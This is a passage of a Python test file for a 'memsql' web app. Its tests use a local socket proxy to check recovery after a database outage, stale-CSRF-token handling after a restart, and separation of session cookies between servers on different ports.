            self.sockets += [client, upstream]
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()

    @staticmethod
    def _pipe(a, b) -> None:
        import socket

        try:
            while data := a.recv(65536):
                b.sendall(data)
        except OSError:
            pass
        for s in (a, b):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def stop(self) -> None:
        import socket

        for s in [self.listener, *self.sockets]:
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            s.close()
        self.sockets = []


def test_a_database_that_cannot_be_reached_is_a_quick_503_and_the_server_recovers(postgresql, dsn, embedder,
                                                                                   seeded):
    import time

    import psycopg

    info = postgresql.info
    proxy = _Proxy(info.host, info.port)
    proxy.start()
    through = psycopg.conninfo.make_conninfo(dsn, host="127.0.0.1", port=proxy.port)
    try:
        with make_client(through, embedder) as c:
            r = c.get("/api/stats")
            assert r.status_code == 200 and {s["namespace"] for s in r.json()["result"]} == {"default", "home"}
            proxy.stop()
            started = time.monotonic()
            r = c.get("/api/stats")
            assert time.monotonic() - started < 15
            assert r.status_code == 503, r.text
            error = r.json()["error"]
            assert "cannot be reached" in error["message"] and "memsql db start" in error["hint"]
            started = time.monotonic()
            r = c.get("/", params={"q": "travel budget"})
            assert time.monotonic() - started < 15
            assert r.status_code == 503 and r.headers["content-type"].startswith("text/html")
            assert "cannot be reached" in r.text and "memsql db start" in r.text and 'class="brand"' in r.text
            proxy.start()
            deadline = time.monotonic() + 90
            while (r := c.get("/api/search", params={"query": "travel budget"})).status_code == 503:
                assert time.monotonic() < deadline, "the server did not reconnect"
                time.sleep(1)
            assert r.status_code == 200 and r.json()["result"][0]["memory_id"] == seeded["budget"]
            assert c.get("/namespaces").status_code == 200
    finally:
        proxy.stop()


def test_a_form_of_a_page_older_than_the_server_asks_to_reload_it(dsn, embedder, seeded, memory):
    mid = seeded["cat"]
    with make_client(dsn, embedder, port=8765) as before:
        token = csrf(before, f"/memory/{mid}")
        cookies = dict(before.cookies)
    with make_client(dsn, embedder, port=8765) as after:  # the same server restarted: a new CSRF secret
        after.cookies.update(cookies)
        r = after.post(f"/memory/{mid}/tag", data={"csrftoken": token, "importance": "0.9"})
        assert r.status_code == 403 and r.headers["content-type"].startswith("text/html")
        assert "out of date" in r.text and "reload the page" in r.text and 'class="brand"' in r.text
        assert memory.get(mid)[0].importance is None
        r = after.post(f"/memory/{mid}/tag", data={"csrftoken": csrf(after, f"/memory/{mid}"), "importance": "0.9"})
        assert r.status_code == 303
    assert memory.get(mid)[0].importance == pytest.approx(0.9)


def test_two_servers_on_one_host_keep_their_forms_and_sessions_apart(dsn, embedder, seeded, memory):
    """Browsers send a host's cookies to every port: one cookie jar shared by two servers on two ports."""
    from memsql.web import create_app

    first = make_client(dsn, embedder, token=TOKEN, port=8765)
    second = TestClient(create_app(dsn=dsn, embedder=embedder, warm=False, token=TOKEN, port=8766),
                        base_url="http://127.0.0.1:8766", follow_redirects=False)

    def share(a: TestClient, b: TestClient) -> None:
        for cookie in a.cookies.jar:
            b.cookies.jar.set_cookie(cookie)

    with first, second:
        for c in (first, second):
            r = c.post("/login", data={"csrftoken": csrf(c, "/login"), "token": TOKEN, "next": "/"})
            assert r.status_code == 303
            share(c, first if c is second else second)
        jar = {cookie.name: cookie.value for cookie in first.cookies.jar}
        assert {"memsql_session_8765", "memsql_session_8766", "memsql_csrf_8765", "memsql_csrf_8766"} <= set(jar)
        assert TOKEN not in jar.values() and jar["memsql_session_8765"] != jar["memsql_session_8766"]
        token = csrf(first, f"/memory/{seeded['cat']}")
        share(first, second)
        csrf(second, f"/memory/{seeded['cat']}")  # the other server's page sets its own CSRF cookie
        share(second, first)
        r = first.post(f"/memory/{seeded['cat']}/tag", data={"csrftoken": token, "importance": "0.7"})
        assert r.status_code == 303, r.text
        assert memory.get(seeded["cat"])[0].importance == pytest.approx(0.7)
        assert first.get("/namespaces").status_code == 200 and second.get("/namespaces").status_code == 200
    session = {"memsql_session_8765": jar["memsql_session_8765"]}
    with make_client(dsn, embedder, token=TOKEN, port=8765) as restarted:  # a session is this process's only
        restarted.cookies.update(session)
        r = restarted.get("/namespaces")
        assert r.status_code == 303 and r.headers["location"].startswith("/login")
